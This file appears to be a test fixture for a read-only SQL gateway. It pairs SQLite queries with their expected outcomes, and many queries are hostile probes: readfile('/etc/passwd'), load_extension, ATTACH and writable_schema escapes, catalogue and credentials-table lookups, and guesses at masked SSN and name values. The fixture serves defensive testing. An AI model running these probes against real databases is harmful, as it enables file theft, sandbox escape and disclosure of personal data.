NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT true

-- resources | safe
SELECT --------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------------1

-- resources | safe
SELECT CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN CASE WHEN true THEN 1 END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END END

-- empty | syntax,not-a-select,bad-request
;

-- empty | syntax,not-a-select,bad-request
-- nothing

-- noise | syntax,not-a-select
SELEC * FORM customers

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_master

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_schema

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM main.sqlite_master

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM temp.sqlite_master

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_temp_master

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_stat1

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_sequence

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM dbstat

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_dbpage

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_table_info('customers')

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_database_list

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM pragma_table_list

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM sqlite_stmt

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM bytecode('select 1')

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM fts5vocab

-- catalogue | unknown-name,not-supported,function-refused,syntax
SELECT * FROM json_tree(pragma_database_list)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
PRAGMA table_info(customers)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
PRAGMA query_only = 0

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
PRAGMA writable_schema = 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
ATTACH DATABASE 'x.db' AS x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
ATTACH 'file:x?mode=rwc' AS x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
DETACH DATABASE main

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
VACUUM INTO 'copy.db'

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
REPLACE INTO products (id) VALUES (1)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CREATE VIRTUAL TABLE t USING fts5(a)

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
CREATE TRIGGER t AFTER INSERT ON orders BEGIN SELECT 1; END

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
SAVEPOINT x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
RELEASE x

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
REINDEX

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
ANALYZE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
EXPLAIN QUERY PLAN SELECT 1

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
BEGIN IMMEDIATE

-- statement that is no query | not-a-select,not-supported,syntax,many-statements
END

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT load_extension('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT fts3_tokenizer('simple')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT randomblob(100000000)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT zeroblob(100000000)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT readfile('/etc/passwd')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT writefile('x','y')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT edit('x')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT sqlite_version()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT sqlite_source_id()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT sqlite_compileoption_get(1)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT last_insert_rowid()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT changes()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT total_changes()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT sqlite_offset(id)

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT pragma_database_list()

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT postern_hash(x'00','a')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT postern_initials('abc','x')

-- dangerous function, select list | function-refused,not-supported,unknown-name
SELECT postern_network('10.0.0.1',8,8)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE zeroblob(9) IS NOT NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products ORDER BY load_extension('x')

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT count(*) FROM products GROUP BY zeroblob(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT count(*) FROM products HAVING load_extension('x') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT 1 FROM products p JOIN orders o ON zeroblob(9) IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT (SELECT load_extension('x'))

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT coalesce(zeroblob(9), NULL)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT CASE WHEN load_extension('x') IS NULL THEN 1 END

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT count(*) FILTER (WHERE zeroblob(9) IS NULL) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT row_number() OVER (PARTITION BY load_extension('x')) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
WITH x AS (SELECT zeroblob(9)) SELECT * FROM x

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT 1 UNION SELECT 1 WHERE load_extension('x') IS NULL

-- dangerous function, every position | function-refused,not-supported,unknown-name
VALUES (zeroblob(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products LIMIT load_extension('x')

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products LIMIT 1 OFFSET zeroblob(9)

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT group_concat(name, load_extension('x')) FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT abs(zeroblob(9))

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE id IN (load_extension('x'))

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT id BETWEEN zeroblob(9) AND 3 FROM products

-- dangerous function, every position | function-refused,not-supported,unknown-name
SELECT 'a' LIKE load_extension('x')

-- hidden row number | unknown-name,not-supported
SELECT rowid FROM customers

-- hidden row number | unknown-name,not-supported
SELECT _rowid_ FROM customers

-- hidden row number | unknown-name,not-supported
SELECT oid FROM customers

-- hidden row number | unknown-name,not-supported
SELECT customers.rowid FROM customers

-- hidden row number | unknown-name,not-supported
SELECT rowid, token FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT id FROM customers WHERE "token" = 'x'

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT "no such name" FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT "text in double quotes"

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT [token] FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT `token` FROM customers

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT TOKEN FROM CUSTOMERS

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM main.credentials

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM temp.credentials

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM "credentials"

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM [credentials]

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM 'credentials'

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT 'token' FROM customers, credentials

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM customers INDEXED BY x

-- hidden or absent name | unknown-name,not-supported,syntax
SELECT * FROM customers NOT INDEXED

-- masked column through an expression | safe
SELECT id FROM customers WHERE name MATCH 'x'

-- masked column through an expression | safe
SELECT id FROM customers WHERE name REGEXP 'x'

-- masked column through an expression | safe
SELECT name FROM customers ORDER BY name COLLATE x

-- masked column through an expression | safe
SELECT hex(name), quote(name) FROM customers

-- masked column through an expression | safe
SELECT json_group_array(name) FROM customers

-- masked column through an expression | safe
SELECT json_object('n', name, 'p', phone) FROM customers

-- masked column through an expression | safe
SELECT group_concat(name || phone) FROM customers

-- masked column through an expression | safe
SELECT substr(name, id, 1) FROM customers

-- masked column through an expression | safe
SELECT unicode(substr(name, 5, 1)) FROM customers

-- masked column through an expression | safe
SELECT instr(name, 'CANARY') FROM customers

-- masked column through an expression | safe
SELECT name GLOB '*CANARY*' FROM customers

-- masked column through an expression | safe
SELECT printf('%s', name) FROM customers

-- masked column through an expression | safe
SELECT total(salary) FROM employees

-- masked column through an expression | safe
SELECT CAST(name AS BLOB) FROM customers

-- masked column through an expression | safe
SELECT soundex(name) FROM customers

-- masked column through an expression | safe
SELECT json_extract(payload, '$.secret') FROM events

-- masked column through an expression | safe
SELECT e.id, j.value FROM events e, json_each(e.payload) j

-- masked column through an expression | safe
SELECT name -> '$' FROM customers

-- masked column through an expression | safe
SELECT max(name, phone) FROM customers

-- masked column through an expression | safe
SELECT like('%C%', name) FROM customers

-- masked column through an expression | safe
SELECT trim(name, 'x'), ltrim(name), rtrim(name) FROM customers

-- masked column through an expression | safe
SELECT char(unicode(name)) FROM customers

-- masked column through an expression | safe
SELECT typeof(token) FROM (SELECT name AS token FROM customers)

-- masked column through an expression | safe
SELECT iif(name > 'B', phone, email) FROM customers

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers WHERE name GLOB '*CANARYname1 *'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE instr(name, 'CANARY') > 0

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE ssn = 'CANARYssn900001013'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name = 'Ada CANARYname1 Lovelace' COLLATE NOCASE

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE (name, 1) = ('Ada CANARYname1 Lovelace', 1)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name >= 'Ada CANARYname1 L' AND name < 'Ada CANARYname1 M'

-- guessing behind the mask | no-rows
SELECT id FROM customers AS c WHERE EXISTS (SELECT 1 WHERE c.name LIKE '%CANARY%')

-- error text | safe
SELECT abs(-9223372036854775808)

-- error text | safe
SELECT json('x')

-- error text | safe
SELECT json_extract(name, '$.x') FROM customers

-- error text | safe
